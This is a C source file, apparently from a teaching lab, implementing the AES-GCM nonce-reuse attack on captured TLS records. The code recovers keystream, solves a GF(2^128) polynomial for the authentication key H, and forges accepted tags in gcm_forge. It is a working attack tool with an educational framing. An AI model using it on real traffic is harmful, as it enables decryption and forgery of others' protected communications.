/*
 * gcm_solve.c — the mathematics of glass-attack gcm-reuse (gcm_attack.h,
 * docs/labs/gcm-reuse.md), on records already captured.
 *
 * GCM under key K and nonce N (NIST SP 800-38D 7.1, with a 96-bit IV):
 *   J0 = N || 0^31 || 1,  keystream = E_K(inc32(J0)), E_K(inc32^2(J0)), ...
 *   C  = P XOR keystream
 *   T  = GHASH_H(A, C) XOR E_K(J0),   H = E_K(0^128)
 * Everything but P and C depends only on K and N.  Two records under the
 * same N therefore give
 *   (a) C1 XOR C2 = P1 XOR P2                      (the keystream cancels)
 *   (b) keystream = C1 XOR P1, with one known P1   (and then P2 = C2 XOR it)
 *   (c) T1 XOR T2 = GHASH_H(A1, C1) XOR GHASH_H(A2, C2)   (E_K(J0) cancels)
 * (c) is a polynomial equation in the one unknown H over GF(2^128), of the
 * degree of the longer GHASH input in blocks; its roots (gf128_poly.c)
 * include the real H, and a third record's tag tells the roots apart.  Then
 *   (d) E_K(J0) = T1 XOR GHASH_H(A1, C1)
 * and any C' up to the length of a known keystream gets the tag
 * GHASH_H(A', C') XOR E_K(J0), which the receiver accepts.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "labnet.h"
#include "gcm_attack.h"

void gcm_hex(FILE *out, const uint8_t *p, size_t n)
{
    for (size_t i = 0; i < n; i++)
        fprintf(out, "%02x", p[i]);
}

static int nibble(char c)
{
    return c >= '0' && c <= '9' ? c - '0'
         : c >= 'a' && c <= 'f' ? c - 'a' + 10
         : c >= 'A' && c <= 'F' ? c - 'A' + 10 : -1;
}

long gcm_unhex(const char *s, uint8_t *out, size_t cap)
{
    size_t n = strlen(s);
    if (n % 2 != 0 || n / 2 > cap)
        return -1;
    for (size_t i = 0; i < n / 2; i++) {
        int hi = nibble(s[2 * i]), lo = nibble(s[2 * i + 1]);
        if (hi < 0 || lo < 0)
            return -1;
        out[i] = (uint8_t)(hi << 4 | lo);
    }
    return (long)(n / 2);
}

void gcm_tls_aad(uint8_t aad[13], uint64_t seq, uint8_t type, uint16_t version, size_t len)
{
    for (int i = 7; i >= 0; i--) {
        aad[i] = (uint8_t)seq;
        seq >>= 8;
    }
    aad[8] = type;
    aad[9] = (uint8_t)(version >> 8);
    aad[10] = (uint8_t)version;
    aad[11] = (uint8_t)(len >> 8);
    aad[12] = (uint8_t)len;
}

static void show_gf(FILE *out, gf128 a)
{
    uint8_t b[16];
    gf128_store(b, a);
    gcm_hex(out, b, 16);
}

static int same_nonce(const gcm_rec *x, const gcm_rec *y)
{
    return x->nonce_len == y->nonce_len && memcmp(x->nonce, y->nonce, x->nonce_len) == 0;
}

static const char *type_name(uint8_t t)
{
    switch (t) {
    case 20: return "change_cipher_spec";
    case 21: return "alert";
    case 22: return "handshake";
    case 23: return "application_data";
    default: return "record";
    }
}

static void describe(FILE *out, const gcm_rec *r)
{
    if (r->type != 0)
        fprintf(out, "seq %llu (%s, %zu B)", (unsigned long long)r->seq, type_name(r->type),
                r->ct_len);
    else
        fprintf(out, "record %llu (%zu B)", (unsigned long long)r->seq, r->ct_len);
}

static size_t ghash_blocks(const gcm_rec *r)
{
    return (r->aad_len + 15) / 16 + (r->ct_len + 15) / 16 + 1;
}

/* What a decrypted TLS plaintext is, when it is recognisable. */
static void recognise(FILE *out, const gcm_rec *r, const uint8_t *p, size_t n)
{
    if (r->type == 22 && n >= 4 && p[0] == 20 && p[1] == 0 && p[2] == 0 && p[3] == 12)
        fprintf(out, "  <- a Finished message (type 20, length 12): its verify_data, read "
                     "without the key");
    else if (r->type == 21 && n == 2)
        fprintf(out, "  <- alert level %u, description %u%s", p[0], p[1],
                p[1] == 0 ? " (close_notify)" : "");
    else if (r->type == 23) {
        fprintf(out, "  \"");
        for (size_t i = 0; i < n && i < 40; i++)
            fputc(p[i] >= 0x20 && p[i] < 0x7f ? p[i] : '.', out);
        fprintf(out, "%s\"", n > 40 ? "..." : "");
    }
}

int gcm_solve(gcm_rec *recs, size_t n, int force, FILE *out, gcm_solution *sol)
{
    memset(sol, 0, sizeof *sol);
    sol->nrec = n;
    if (n < 2) {
        fprintf(out, "gcm-reuse: %zu sealed record(s) captured: at least two are needed\n", n);
        return 1;
    }
    /* the nonces: how many distinct, and the one most used */
    size_t best = 0, best_count = 0;
    for (size_t i = 0; i < n; i++) {
        int first = 1;
        size_t count = 0;
        for (size_t j = 0; j < n; j++) {
            if (same_nonce(&recs[i], &recs[j])) {
                if (j < i)
                    first = 0;
                count++;
            }
        }
        sol->distinct += (size_t)first;
        if (count > best_count)
            best = i, best_count = count;
    }
    sol->group = best_count;
    fprintf(out, "nonces: %zu sealed records under %zu distinct nonce%s", n, sol->distinct,
            sol->distinct == 1 ? "" : "s");
    if (best_count >= 2) {
        fprintf(out, "; nonce ");
        gcm_hex(out, recs[best].nonce, recs[best].nonce_len);
        fprintf(out, " is used by %zu records: it repeats\n", best_count);
    } else {
        fprintf(out, ": no nonce repeats\n");
    }
    size_t *idx = calloc(n, sizeof *idx), ng = 0;
    gf128 *cand = calloc(GF_POLY_MAX, sizeof *cand);
    gf_poly *p = calloc(1, sizeof *p);
    int rc = 1;
    if (idx == NULL || cand == NULL || p == NULL)
        goto out;
    for (size_t j = 0; j < n; j++)
        if (best_count < 2 || same_nonce(&recs[best], &recs[j]))
            idx[ng++] = j;
    if (best_count < 2) {
        if (!force) {
            fprintf(out, "gcm-reuse: no two records share a nonce, so no keystream or GHASH "
                         "mask cancels: there is no equation to solve\n");
            goto out;
        }
        fprintf(out, "gcm-reuse: --force: pairing records as if their nonces were the same "
                     "(the equation is then wrong, and so will be the tag)\n");
    } else {
        /* (a) the XOR of two plaintexts */
        const gcm_rec *r0 = &recs[idx[0]], *r1 = &recs[idx[1]];
        size_t m = r0->ct_len < r1->ct_len ? r0->ct_len : r1->ct_len;
        fprintf(out, "(a) C1 XOR C2 = P1 XOR P2, for ");
        describe(out, r0);
        fprintf(out, " and ");
        describe(out, r1);
        fprintf(out, ":\n    ");
        for (size_t i = 0; i < m && i < 48; i++)
            fprintf(out, "%02x", r0->ct[i] ^ r1->ct[i]);
        fprintf(out, "%s\n", m > 48 ? "..." : "");
        /* (b) the keystream, from the longest known plaintext */
        const gcm_rec *k = NULL;
        for (size_t i = 0; i < ng; i++)
            if (recs[idx[i]].pt != NULL && (k == NULL || recs[idx[i]].pt_len > k->pt_len))
                k = &recs[idx[i]];
        if (k == NULL) {
            fprintf(out, "(b) no known plaintext under this nonce: no keystream\n");
        } else {
            fprintf(out, "(b) keystream = C XOR P: %zu bytes from the known plaintext of ",
                    k->pt_len);
            describe(out, k);
            fprintf(out, "; with it, the other records under the nonce:\n");
            size_t shown_data = 0, more = 0;
            for (size_t i = 0; i < ng; i++) {
                const gcm_rec *r = &recs[idx[i]];
                if (r == k)
                    continue;
                /* every record but the bulk of the page, which reads the same */
                if (r->type == 23 && shown_data++ >= 2) {
                    more++;
                    continue;
                }
                size_t len = r->ct_len < k->pt_len ? r->ct_len : k->pt_len;
                uint8_t *d = malloc(len + 1);
                if (d == NULL)
                    goto out;
                for (size_t j = 0; j < len; j++)
                    d[j] = r->ct[j] ^ k->ct[j] ^ k->pt[j];
                fprintf(out, "    ");
                describe(out, r);
                fprintf(out, ": ");
                gcm_hex(out, d, len < 24 ? len : 24);
                fprintf(out, "%s", len > 24 ? "..." : "");
                recognise(out, r, d, len);
                fprintf(out, "\n");
                if (r->pt != NULL && memcmp(d, r->pt, len < r->pt_len ? len : r->pt_len) != 0)
                    fprintf(out, "    (this is not the plaintext given for it)\n");
                free(d);
            }
            if (more > 0)
                fprintf(out, "    and %zu more application_data record%s, read the same way\n",
                        more, more == 1 ? "" : "s");
        }
    }
    /* (c) the two shortest GHASH inputs make the lowest-degree equation */
    size_t a = idx[0], b = idx[1];
    if (ghash_blocks(&recs[b]) < ghash_blocks(&recs[a]))
        a = idx[1], b = idx[0];
    for (size_t i = 2; i < ng; i++) {
        size_t j = idx[i];
        if (ghash_blocks(&recs[j]) < ghash_blocks(&recs[a]))
            b = a, a = j;
        else if (ghash_blocks(&recs[j]) < ghash_blocks(&recs[b]))
            b = j;
    }
    sol->a = a, sol->b = b;
    p->deg = -1;
    if (gf_poly_add_ghash(p, recs[a].aad, recs[a].aad_len, recs[a].ct, recs[a].ct_len) != 0 ||
        gf_poly_add_ghash(p, recs[b].aad, recs[b].aad_len, recs[b].ct, recs[b].ct_len) != 0) {
        fprintf(out, "gcm-reuse: the shortest records are too long for this solver\n");
        goto out;
    }
    gf128 ta = gf128_load(recs[a].tag), tb = gf128_load(recs[b].tag);
    p->c[0] = gf128_add(p->c[0], gf128_add(ta, tb));
    if (p->deg < 0)
        p->deg = 0;
    gf_poly_trim(p);
    sol->degree = p->deg;
    fprintf(out, "(c) T1 XOR T2 = GHASH_H(A1,C1) XOR GHASH_H(A2,C2) for ");
    describe(out, &recs[a]);
    fprintf(out, " and ");
    describe(out, &recs[b]);
    fprintf(out, ":\n    a polynomial of degree %d in H over GF(2^128)\n", p->deg);
    double t0 = lab_now();
    int nc = p->deg <= 0 ? 0 : gf_poly_roots(p, cand, GF_POLY_MAX, 0x6c61623321ULL);
    if (nc < 0) {
        fprintf(out, "gcm-reuse: the root finder failed\n");
        goto out;
    }
    sol->ncand = nc;
    fprintf(out, "    %d root%s in GF(2^128) (gcd with X^(2^128) - X, Cantor-Zassenhaus), "
                 "%.3f s:\n", nc, nc == 1 ? "" : "s", lab_now() - t0);
    for (int i = 0; i < nc; i++) {
        /* every root really is one: the finder is checked on its answer */
        if (!gf128_is_zero(gf_poly_eval(p, cand[i]))) {
            fprintf(out, "gcm-reuse: internal error: a reported root is not a root\n");
            goto out;
        }
        fprintf(out, "    H candidate %d: ", i + 1);
        show_gf(out, cand[i]);
        fprintf(out, "\n");
    }
    /* narrowing: each candidate predicts E_K(J0), hence every other tag */
    size_t others = ng - 2;
    int first_surv = -1;
    for (int i = 0; i < nc; i++) {
        gf128 ek = gf128_add(ta, gf128_ghash(cand[i], recs[a].aad, recs[a].aad_len, recs[a].ct,
                                             recs[a].ct_len));
        size_t confirmed = 0;
        for (size_t k = 0; k < ng; k++) {
            const gcm_rec *r = &recs[idx[k]];
            if (idx[k] == a || idx[k] == b)
                continue;
            gf128 t = gf128_add(ek, gf128_ghash(cand[i], r->aad, r->aad_len, r->ct, r->ct_len));
            confirmed += gf128_eq(t, gf128_load(r->tag));
        }
        if (confirmed == others) {
            sol->nsurv++;
            if (first_surv < 0)
                first_surv = i;
        }
    }
    if (others > 0)
        fprintf(out, "    checked against the tags of the %zu other record%s: %d candidate%s "
                     "left\n", others, others == 1 ? "" : "s", sol->nsurv,
                sol->nsurv == 1 ? "" : "s");
    else
        fprintf(out, "    no third record to check them against\n");
    sol->solved = sol->nsurv == 1 && (others > 0 || nc == 1);
    int pick = first_surv >= 0 ? first_surv : nc > 0 ? 0 : -1;
    if (pick >= 0)
        sol->h = cand[pick];
    else
        memset(&sol->h, 0, sizeof sol->h);   /* no root: a blind guess */
    sol->ekj0 = gf128_add(ta, gf128_ghash(sol->h, recs[a].aad, recs[a].aad_len, recs[a].ct,
                                          recs[a].ct_len));
    sol->have_guess = 1;
    if (sol->solved) {
        fprintf(out, "    H = ");
        show_gf(out, sol->h);
        fprintf(out, "\n(d) E_K(J0) = T1 XOR GHASH_H(A1,C1) = ");
        show_gf(out, sol->ekj0);
        fprintf(out, "\n");
        rc = 0;
    } else {
        fprintf(out, "    H not found: %s\n", pick >= 0 ? "guessing the first root"
                                                         : "no root at all, guessing H = 0");
    }
out:
    free(idx);
    free(cand);
    free(p);
    return rc;
}

int gcm_forge(const gcm_solution *sol, const gcm_rec *recs, size_t n, const uint8_t *aad,
              size_t aad_len, const uint8_t *pt, size_t len, uint8_t *ct, uint8_t tag[16],
              uint8_t nonce[12], size_t *nonce_len, FILE *out)
{
    if (!sol->have_guess)
        return -1;
    /* a known keystream, under the nonce of the solved E_K(J0) if there is one */
    const gcm_rec *k = NULL;
    for (size_t i = 0; i < n; i++) {
        const gcm_rec *r = &recs[i];
        if (r->pt == NULL || r->pt_len < len)
            continue;
        if (k == NULL || (same_nonce(r, &recs[sol->a]) && !same_nonce(k, &recs[sol->a])))
            k = r;
    }
    if (k == NULL) {
        fprintf(out, "gcm-reuse: no known keystream is %zu bytes long\n", len);
        return -1;
    }
    for (size_t i = 0; i < len; i++)
        ct[i] = pt[i] ^ k->ct[i] ^ k->pt[i];
    gf128 t = gf128_add(gf128_ghash(sol->h, aad, aad_len, ct, len), sol->ekj0);
    gf128_store(tag, t);
    memcpy(nonce, k->nonce, k->nonce_len);
    *nonce_len = k->nonce_len;
    fprintf(out, "(d) forged %zu bytes under nonce ", len);
    gcm_hex(out, k->nonce, k->nonce_len);
    fprintf(out, " (the keystream of ");
    describe(out, k);
    fprintf(out, "), tag ");
    gcm_hex(out, tag, 16);
    fprintf(out, "%s\n", same_nonce(k, &recs[sol->a]) ? ""
                         : " (E_K(J0) came from another nonce: this tag cannot verify)");
    return 0;
}
